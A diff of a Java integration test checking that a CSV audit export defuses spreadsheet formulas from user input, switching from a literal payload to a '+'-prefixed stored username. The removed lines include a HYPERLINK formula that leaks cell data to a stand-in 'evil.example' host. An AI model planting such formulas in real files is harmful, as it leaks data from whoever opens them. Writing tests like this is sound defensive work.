@@ -148,12 +148,18 @@ class AuditExportIT extends DirectGrantTest {
 
     @Test
     void spreadsheetFormulasInUserInputAreDefused() throws Exception {
-        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1)" + UUID.randomUUID().toString().substring(0, 6);
-        client.passwordGrant(formula, "wrong", "openid");
-        AuditSinks.awaitRecord(realmAdmin, start, e -> e.toString().contains("HYPERLINK"), WAIT);
+        // Keycloak refuses "=" in usernames but not "+", "-" or "@", which spreadsheets also run; and what an unknown
+        // user typed never reaches a record, so the formula is a known user's stored name.
+        TestUsers.TestUser formula = TestUsers.create(demo.admin(), "+hyperlink", "example.org");
+        try {
+            client.passwordGrant(formula.username(), "wrong", "openid");
+            AuditSinks.awaitRecord(realmAdmin, start, e -> e.toString().contains(formula.username()), WAIT);
 
-        String csv = realmAdmin.get("/audit/export?format=csv&type=user.login_error&from=" + start).body();
+            String csv = realmAdmin.get("/audit/export?format=csv&type=user.login_error&from=" + start).body();
 
-        assertThat(csv).contains("\"'=HYPERLINK(").doesNotContain(",\"=HYPERLINK");
+            assertThat(csv).contains("\"'" + formula.username() + "\"").doesNotContain(",\"" + formula.username());
+        } finally {
+            demo.admin().users().delete(formula.id()).close();
+        }
     }
 }
